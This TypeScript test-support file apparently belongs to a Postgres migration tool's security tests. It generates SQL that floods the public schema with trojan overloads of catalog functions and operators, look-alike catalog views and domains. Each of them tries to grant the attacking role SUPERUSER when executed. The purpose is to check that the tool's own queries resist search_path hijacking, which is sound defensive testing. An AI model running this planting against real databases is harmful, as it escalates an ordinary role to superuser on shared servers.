/**
 * What an ordinary role that may create in `public` can plant there: an overload of every function and operator that the
 * SQL of Strata uses, types and views named like the catalog's. Whatever of it runs leaves a mark that no ROLLBACK takes
 * away, and tries to make its owner a superuser.
 */
import { readdirSync, readFileSync } from "node:fs"
import { fileURLToPath } from "node:url"
import { query } from "../support/server.ts"

const folders = ["client", "ledger", "migrator", "introspect", "autogenerate", "cli"]

const source = folders.flatMap((folder) => {
  const directory = fileURLToPath(new URL(`../../src/${folder}/`, import.meta.url))
  return readdirSync(directory, { encoding: "utf8", recursive: true }).filter((name) => name.endsWith(".ts")).map((
    name
  ) => readFileSync(`${directory}${name}`, "utf8"))
}).join("\n")

const found = (pattern: RegExp): ReadonlyArray<string> =>
  [...new Set([...source.matchAll(pattern)].map((match) => match[1]!))].toSorted()

/** Everything that looks like a call, and everything that is read of the catalog; the server knows which there are. */
const calls = found(/\b([a-z_][a-z0-9_]*)(?= ?\()/g)
const relations = found(/\b(pg_[a-z_]+)\b/g)

const list = (names: ReadonlyArray<string>): string => names.map((name) => `'${name}'`).join(", ")

const strings = ["text", "name", "varchar", "bpchar", "\"char\""]
const numbers = ["int2", "int4", "int8", "oid", "regclass", "numeric"]
const comparisons = ["=", "<>", "<", ">", "<=", ">="]

const across = (symbols: ReadonlyArray<string>, types: ReadonlyArray<string>, result: string) =>
  symbols.flatMap((symbol) => types.flatMap((left) => types.map((right) => [symbol, left, right, result] as const)))

/** Operators as symbol, left, right and result. */
const operators: ReadonlyArray<readonly [string, string, string, string]> = [
  ...across([...comparisons, "~", "!~", "~*", "!~*", "~~", "!~~"], strings, "bool"),
  ...across(["||"], strings, "text"),
  ...across(comparisons, numbers, "bool"),
  ...across(["+", "-", "*", "/", "%"], numbers, "int8"),
  ...[...strings, "int4"].flatMap((right) => [
    ["->", "jsonb", right, "jsonb"] as const,
    ["->>", "jsonb", right, "text"] as const,
    ["?", "jsonb", right, "bool"] as const
  ]),
  ...["@>", "<@", "=", "||"].map((it) => [it, "jsonb", "jsonb", it === "||" ? "jsonb" : "bool"] as const),
  ...["@>", "<@", "&&", "="].map((it) => [it, "text[]", "text[]", "bool"] as const),
  ...["timestamptz", "bytea", "uuid", "bool"].map((type) => ["=", type, type, "bool"] as const),
  ["||", "bytea", "bytea", "bytea"],
  ["||", "text[]", "text", "text[]"],
  ["-", "timestamptz", "timestamptz", "interval"]
]

const operatorSql = operators.map(([symbol, left, right, result]) =>
  `('${symbol}', '${left}', '${right}', '${result}')`
).join(", ")

const types = [
  "text",
  "name",
  "int2",
  "int4",
  "int8",
  "jsonb",
  "bytea",
  "uuid",
  "timestamptz",
  "regclass",
  "oid",
  "bool",
  "numeric"
]

/** The planting, as the attacker runs it. Whatever cannot be created is none of the attack. */
const planting = `
CREATE SEQUENCE public.marks;
CREATE TABLE public.stolen (what pg_catalog.text);
GRANT ALL ON public.stolen, public.marks TO PUBLIC;
CREATE FUNCTION public.steal(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql
SET search_path = pg_catalog AS $steal$
BEGIN
  PERFORM pg_catalog.nextval('public.marks');
  RAISE LOG 'stolen by %', what;
  EXECUTE 'ALTER ROLE ' || pg_catalog.quote_ident(:attacker) || ' SUPERUSER';
  INSERT INTO public.stolen VALUES (what);
  RETURN true;
END $steal$;
SET search_path = pg_catalog;
DO $plant$
DECLARE
  it record;
  arguments text;
  body text;
BEGIN
  FOR it IN SELECT p.oid, p.proname, p.proretset, p.provariadic, oidvectortypes(p.proargtypes) AS arguments,
      CASE WHEN p.prorettype::regtype::text IN ('anyelement', 'anyarray', 'any', 'internal', 'anycompatible') THEN 'text'
        ELSE p.prorettype::regtype::text END AS result
    FROM pg_proc AS p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname IN (${list(calls)})
  LOOP
    body := 'BEGIN PERFORM public.steal(' || quote_literal(it.proname) || '); RETURN' ||
      CASE WHEN it.proretset THEN '' ELSE ' NULL' END || '; END';
    FOREACH arguments IN ARRAY ARRAY[
      it.arguments,
      replace(replace(replace(replace(replace(it.arguments,
        'text', 'name'), 'oid', 'regclass'), 'bigint', 'integer'), 'anyelement', 'text'), '"any"', 'text'),
      replace(replace(replace(replace(it.arguments,
        'text', 'varchar'), '"any"', 'name'), 'anyelement', 'name'), 'anyarray', 'name[]'),
      CASE WHEN it.provariadic <> 0 THEN 'VARIADIC text[]' ELSE it.arguments END
    ] LOOP
      BEGIN
        EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L',
          it.proname, arguments, CASE WHEN it.proretset THEN 'SETOF' END, it.result, body);
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
  END LOOP;
  FOR it IN SELECT *, row_number() OVER () AS number FROM (VALUES ${operatorSql}) AS o (symbol, lefts, rights, result) LOOP
    EXECUTE format('CREATE FUNCTION public.attack_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS %L',
      it.number, it.lefts, it.rights, it.result,
      'BEGIN PERFORM public.steal(' || quote_literal(it.symbol || it.lefts || it.rights) || '); RETURN NULL; END');
    EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.attack_%s)',
      it.symbol, it.lefts, it.rights, it.number);
  END LOOP;
  FOR it IN SELECT relname, (SELECT string_agg(quote_ident(attname), ', ') FROM pg_attribute
      WHERE attrelid = c.oid AND attnum > 0 AND NOT attisdropped AND atttypid <> 'anyarray'::regtype) AS columns
    FROM pg_class AS c
    WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') AND relname IN (${list(relations)})
  LOOP
    EXECUTE format('CREATE VIEW public.%I AS SELECT %s, public.steal(%L) AS stolen FROM pg_catalog.%I',
      it.relname, it.columns, it.relname, it.relname);
  END LOOP;
END $plant$;
${types.map((type) => `CREATE DOMAIN public.${type} AS pg_catalog.int4 CHECK (public.steal('${type}'));`).join("\n")}
CREATE TABLE public.ledger (sequence pg_catalog.int4);
`

/** Plants it all as the role of `url`; tells how many functions and operators there are now. */
export const plant = async (url: string): Promise<Record<string, unknown>> => {
  const attacker = new URL(url).username
  await query(url, planting.replace(":attacker", `'${attacker}'`))
  const [counts] = await query(
    url,
    `SET search_path = pg_catalog;
    SELECT (SELECT count(*)::int4 FROM pg_proc WHERE pronamespace = 'public'::regnamespace) AS functions,
      (SELECT count(*)::int4 FROM pg_operator WHERE oprnamespace = 'public'::regnamespace) AS operators`
  )
  return counts!
}

/** What ran of it: names, and whether any did, also where the transaction was rolled back. */
export const stolen = async (url: string): Promise<unknown> => {
  // This very query is not to be a victim.
  const [row] = await query(
    url,
    `SET search_path = pg_catalog;
    SELECT (SELECT is_called FROM public.marks) AS marks, (SELECT array_agg(DISTINCT what) FROM public.stolen) AS names,
      (SELECT count(*)::int4 FROM pg_roles WHERE rolname = 'mallory_' || current_database() AND rolsuper) AS superusers`
  )
  return row
}

/** The answer where nothing ran. */
export const nothing = { marks: false, names: null, superusers: 0 }
